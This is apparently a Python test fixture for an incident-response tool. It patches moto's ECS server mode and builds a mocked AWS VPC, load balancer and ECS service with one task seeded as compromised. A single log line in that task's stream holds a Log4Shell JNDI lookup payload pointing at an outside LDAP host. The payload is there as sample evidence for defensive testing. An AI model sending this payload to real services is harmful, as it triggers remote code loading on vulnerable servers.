"""The ECS environment of the respond demo and tests, built with real API calls against moto in
server mode (ThreadedMotoServer on 127.0.0.1), and three gaps of moto 5.2.6 in server mode, filled
in the server process so that seawall's real API calls (boto3 over HTTP to the ThreadedMotoServer)
go through unchanged:

1. RunTask of an `awsvpc` task fails with a 500: moto's ENI object has no `private_dns_name`, which
   the task's attachment details need. The ENI gets the name EC2 gives it (ip-A-B-C-D.REGION
   .compute.internal).
2. ListTasks with `containerInstance` fails (500) as soon as the cluster also runs a task without a
   container instance (Fargate): the filter reads None. The filter skips those tasks.
3. UpdateTaskProtection / GetTaskProtection are not implemented (500). They are added to moto's ECS
   backend with the API reference's shapes: protection is stored on moto's task object, expiry as
   `expiresInMinutes` from now (default 120, at most 2880), and failures for unknown tasks.

Nothing of seawall is replaced: the requests and responses are real HTTP between botocore and moto.
"""

from __future__ import annotations

import datetime as dt
from typing import Any


def install() -> None:
    from moto.core.responses import ActionResult
    from moto.ec2.models.elastic_network_interfaces import NetworkInterface
    from moto.ecs.models import EC2ContainerServiceBackend
    from moto.ecs.responses import EC2ContainerServiceResponse

    if not hasattr(NetworkInterface, "private_dns_name"):

        def private_dns_name(self: Any) -> str:
            address = self.private_ip_address.replace(".", "-")
            return f"ip-{address}.{self.ec2_backend.region_name}.compute.internal"

        NetworkInterface.private_dns_name = property(private_dns_name)  # type: ignore[attr-defined]

    if not getattr(EC2ContainerServiceBackend.list_tasks, "seawall_filled", False):
        original = EC2ContainerServiceBackend.list_tasks

        def list_tasks(self: Any, cluster_str: Any = None, container_instance: Any = None, *rest: Any) -> Any:
            tasks = original(self, cluster_str, None, *rest)
            if container_instance:
                tasks = [t for t in tasks if container_instance in (t.container_instance_arn or "")]
            return tasks

        list_tasks.seawall_filled = True  # type: ignore[attr-defined]
        EC2ContainerServiceBackend.list_tasks = list_tasks  # type: ignore[method-assign]

    def _find(self: Any, cluster: str, tasks: list[str]) -> tuple[list[Any], list[dict[str, Any]]]:
        found, failures = [], []
        for ref in tasks:
            matches = [
                t
                for t in self.ecs_backend.describe_tasks(cluster, [ref])
                if t.task_arn == ref or t.task_arn.endswith("/" + ref)
            ]
            if matches:
                found.append(matches[0])
            else:
                failures.append({"arn": ref, "reason": "MISSING"})
        return found, failures

    def _shape(task: Any) -> dict[str, Any]:
        state = getattr(task, "seawall_protection", None) or {"protectionEnabled": False}
        out = {"taskArn": task.task_arn, "protectionEnabled": state["protectionEnabled"]}
        if state.get("expirationDate"):
            out["expirationDate"] = state["expirationDate"]
        return out

    def update_task_protection(self: Any) -> Any:
        cluster = self._get_param("cluster", "default")
        tasks, failures = _find(self, cluster, self._get_param("tasks") or [])
        enabled = bool(self._get_param("protectionEnabled"))
        minutes = min(int(self._get_param("expiresInMinutes") or 120), 2880)
        for task in tasks:
            task.seawall_protection = {
                "protectionEnabled": enabled,
                "expirationDate": (dt.datetime.now(dt.UTC) + dt.timedelta(minutes=minutes))
                if enabled
                else None,
            }
        return ActionResult({"protectedTasks": [_shape(t) for t in tasks], "failures": failures})

    def get_task_protection(self: Any) -> Any:
        cluster = self._get_param("cluster", "default")
        tasks, failures = _find(self, cluster, self._get_param("tasks") or [])
        return ActionResult({"protectedTasks": [_shape(t) for t in tasks], "failures": failures})

    EC2ContainerServiceResponse.update_task_protection = update_task_protection  # type: ignore[attr-defined]
    EC2ContainerServiceResponse.get_task_protection = get_task_protection  # type: ignore[attr-defined]


ACCOUNT = "123456789012"
REGION = "eu-west-1"


def client(url: str, service: str, key: str = "testing", secret: str = "testing") -> Any:
    import boto3

    return boto3.client(
        service, endpoint_url=url, region_name=REGION, aws_access_key_id=key, aws_secret_access_key=secret
    )


def build(url: str) -> dict[str, Any]:
    """A VPC with app, public and data subnets; an ALB target group; ECS service `frontend` with two
    awsvpc tasks registered behind it (the first one compromised, with Log4Shell in its log stream);
    an EC2 container instance running a bridge-mode task. Returns the ids the demo and tests use.

    moto starts no tasks for a service: the tasks are started with RunTask (group service:frontend,
    as ECS sets it) and registered in the target group with RegisterTargets, as ECS would; the
    service's runningCount comes from MOTO_ECS_SERVICE_RUNNING (set before the service is created)."""
    import os

    import httpx

    # moto advances a task's status on every DescribeTasks (RUNNING -> DEACTIVATING -> ...); its
    # documented state-transition setting keeps tasks RUNNING, as ECS would
    httpx.post(
        f"{url}/moto-api/state-manager/set-transition",
        timeout=10,
        json={"model_name": "ecs::task", "transition": {"progression": "manual", "times": 1_000_000}},
    ).raise_for_status()
    ec2, ecs, elb, logs = (client(url, s) for s in ("ec2", "ecs", "elbv2", "logs"))
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]

    def subnet(cidr: str, az: str) -> str:
        return str(
            ec2.create_subnet(VpcId=vpc, CidrBlock=cidr, AvailabilityZone=f"{REGION}{az}")["Subnet"][
                "SubnetId"
            ]
        )

    app_a, app_b = subnet("10.0.1.0/24", "a"), subnet("10.0.2.0/24", "b")
    pub_a, pub_b = subnet("10.0.10.0/24", "a"), subnet("10.0.11.0/24", "b")
    data_a = subnet("10.0.20.0/24", "a")
    # the public subnets get their own ACL: a narrow allow at rule 1 (before anything seawall adds)
    public_acl = ec2.create_network_acl(VpcId=vpc)["NetworkAcl"]["NetworkAclId"]
    for egress in (False, True):
        ec2.create_network_acl_entry(
            NetworkAclId=public_acl,
            RuleNumber=100,
            Protocol="-1",
            RuleAction="allow",
            Egress=egress,
            CidrBlock="0.0.0.0/0",
        )
    ec2.create_network_acl_entry(
        NetworkAclId=public_acl,
        RuleNumber=1,
        Protocol="6",
        RuleAction="allow",
        Egress=False,
        CidrBlock="10.0.0.0/8",
        PortRange={"From": 443, "To": 443},
    )
    data_acl = ec2.create_network_acl(VpcId=vpc)["NetworkAcl"]["NetworkAclId"]
    for egress in (False, True):
        ec2.create_network_acl_entry(
            NetworkAclId=data_acl,
            RuleNumber=100,
            Protocol="-1",
            RuleAction="allow",
            Egress=egress,
            CidrBlock="10.0.0.0/16",
        )
    for sub, acl in ((pub_a, public_acl), (pub_b, public_acl), (data_a, data_acl)):
        assoc = ec2.describe_network_acls(Filters=[{"Name": "association.subnet-id", "Values": [sub]}])
        assoc_id = next(
            a["NetworkAclAssociationId"]
            for a in assoc["NetworkAcls"][0]["Associations"]
            if a["SubnetId"] == sub
        )
        ec2.replace_network_acl_association(AssociationId=assoc_id, NetworkAclId=acl)
    alb_sg = ec2.create_security_group(GroupName="alb", Description="alb", VpcId=vpc)["GroupId"]
    task_sg = ec2.create_security_group(GroupName="frontend", Description="frontend tasks", VpcId=vpc)[
        "GroupId"
    ]
    ec2.authorize_security_group_ingress(
        GroupId=task_sg,
        IpPermissions=[
            {
                "IpProtocol": "tcp",
                "FromPort": 8080,
                "ToPort": 8080,
                "UserIdGroupPairs": [{"GroupId": alb_sg}],
            },
            {"IpProtocol": "tcp", "FromPort": 8080, "ToPort": 8080, "IpRanges": [{"CidrIp": "10.0.0.0/16"}]},
        ],
    )
    lb = elb.create_load_balancer(Name="shop", Subnets=[pub_a, pub_b], SecurityGroups=[alb_sg])
    tg = elb.create_target_group(Name="frontend", Protocol="HTTP", Port=8080, VpcId=vpc, TargetType="ip")[
        "TargetGroups"
    ][0]["TargetGroupArn"]
    elb.create_listener(
        LoadBalancerArn=lb["LoadBalancers"][0]["LoadBalancerArn"],
        Protocol="HTTP",
        Port=80,
        DefaultActions=[{"Type": "forward", "TargetGroupArn": tg}],
    )
    ecs.create_cluster(clusterName="prod")
    ecs.register_task_definition(
        family="frontend",
        networkMode="awsvpc",
        requiresCompatibilities=["FARGATE"],
        cpu="256",
        memory="512",
        containerDefinitions=[
            {
                "name": "web",
                "image": f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/shop/frontend:v44",
                "memory": 512,
                "portMappings": [{"containerPort": 8080, "protocol": "tcp"}],
                "logConfiguration": {
                    "logDriver": "awslogs",
                    "options": {
                        "awslogs-group": "/ecs/frontend",
                        "awslogs-region": REGION,
                        "awslogs-stream-prefix": "frontend",
                    },
                },
            }
        ],
    )
    os.environ["MOTO_ECS_SERVICE_RUNNING"] = "2"
    try:
        ecs.create_service(
            cluster="prod",
            serviceName="frontend",
            taskDefinition="frontend",
            desiredCount=2,
            launchType="FARGATE",
            tags=[{"key": "team", "value": "shop"}],
            loadBalancers=[{"targetGroupArn": tg, "containerName": "web", "containerPort": 8080}],
            networkConfiguration={
                "awsvpcConfiguration": {"subnets": [app_a, app_b], "securityGroups": [task_sg]}
            },
        )
    finally:
        os.environ.pop("MOTO_ECS_SERVICE_RUNNING", None)
    tasks = []
    for sub in (app_a, app_b):
        task = ecs.run_task(
            cluster="prod",
            taskDefinition="frontend",
            launchType="FARGATE",
            group="service:frontend",
            startedBy="ecs-svc/7431203145",
            tags=[{"key": "team", "value": "shop"}],
            networkConfiguration={"awsvpcConfiguration": {"subnets": [sub], "securityGroups": [task_sg]}},
        )["tasks"][0]
        ip = next(d["value"] for d in task["attachments"][0]["details"] if d["name"] == "privateIPv4Address")
        elb.register_targets(TargetGroupArn=tg, Targets=[{"Id": ip, "Port": 8080}])
        tasks.append(
            {"id": task["taskArn"].rsplit("/", 1)[-1], "arn": task["taskArn"], "ip": ip, "subnet": sub}
        )
    logs.create_log_group(logGroupName="/ecs/frontend")
    stream = f"frontend/web/{tasks[0]['id']}"
    logs.create_log_stream(logGroupName="/ecs/frontend", logStreamName=stream)
    import time

    now = int(time.time() * 1000)
    logs.put_log_events(
        logGroupName="/ecs/frontend",
        logStreamName=stream,
        logEvents=[
            {"timestamp": now - 2000, "message": '10.0.10.7 - - "GET /health HTTP/1.1" 200 2'},
            {
                "timestamp": now - 1000,
                "message": '10.0.10.7 - - "GET /?q=${jndi:ldap://198.51.100.23:1389/a} HTTP/1.1" 200 512',
            },
        ],
    )
    # an EC2 container instance with a bridge-mode task
    ami = ec2.describe_images()["Images"][0]["ImageId"]
    inst = ec2.run_instances(
        ImageId=ami,
        MinCount=1,
        MaxCount=1,
        InstanceType="t3.large",
        SubnetId=app_a,
        SecurityGroupIds=[task_sg],
    )["Instances"][0]
    import json

    doc = json.dumps(
        {
            "instanceId": inst["InstanceId"],
            "region": REGION,
            "availabilityZone": f"{REGION}a",
            "privateIp": inst["PrivateIpAddress"],
            "accountId": ACCOUNT,
        }
    )
    ecs.register_container_instance(cluster="prod", instanceIdentityDocument=doc)
    ecs.register_task_definition(
        family="worker",
        networkMode="bridge",
        requiresCompatibilities=["EC2"],
        containerDefinitions=[
            {
                "name": "worker",
                "image": "worker:3",
                "memory": 256,
                "portMappings": [{"containerPort": 9000, "hostPort": 32768}],
            }
        ],
    )
    bridge = ecs.run_task(cluster="prod", taskDefinition="worker", launchType="EC2")["tasks"][0]
    return {
        "vpc": vpc,
        "subnets": {"app_a": app_a, "app_b": app_b, "pub_a": pub_a, "pub_b": pub_b, "data_a": data_a},
        "public_acl": public_acl,
        "data_acl": data_acl,
        "target_group": tg,
        "tasks": tasks,
        "task_sg": task_sg,
        "instance": inst["InstanceId"],
        "bridge_task": bridge["taskArn"].rsplit("/", 1)[-1],
    }
